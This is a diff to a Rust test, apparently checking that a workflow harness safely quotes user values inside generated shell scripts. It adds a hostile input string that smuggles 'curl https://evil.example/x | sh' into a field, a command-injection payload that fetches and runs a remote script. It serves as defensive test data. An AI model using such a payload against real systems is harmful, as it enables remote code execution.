@@ -738,19 +738,32 @@ working_directory = "$${HOME}/app"
 
     let harness = Harness::start();
     let machine = harness.create("shell-variables", &compiled.json);
-    let (_, status, _) = harness.run(&machine, "shell", json!({}), None);
+    let hostile = "ops; curl https://evil.example/x | sh";
+    let (_, status, _) = harness.run(&machine, "shell", json!({ "who": hostile }), None);
     assert_eq!(status, "SUCCEEDED");
     let restart = harness
         .invocations("shell")
         .into_iter()
         .find(|i| i.step == "restart" && i.operation == "start")
         .expect("restart was invoked");
+    // The line with a value arrives as text and value apart, which the Lambda binds to a shell variable.
     assert_eq!(
         restart.params,
         json!({
             "instance_ids": ["i-0abc"],
-            "commands": ["echo ${PATH}", "echo ${HOME} — café", "echo ${USER} is ops"],
+            "commands": ["echo ${PATH}", "echo ${HOME} — café", ["echo ${USER} is ", hostile, ""]],
             "working_directory": "${HOME}/app",
         })
+    );
+    let lines: Vec<lambdas::shell::ShellLine> =
+        serde_json::from_value(restart.params["commands"].clone()).expect("shell lines");
+    assert_eq!(
+        lambdas::shell::script(&lines).expect("a script"),
+        [
+            "STEPBACK_VALUE_1='ops; curl https://evil.example/x | sh'",
+            "echo ${PATH}",
+            "echo ${HOME} — café",
+            "echo ${USER} is \"${STEPBACK_VALUE_1}\"",
+        ]
     );
 }
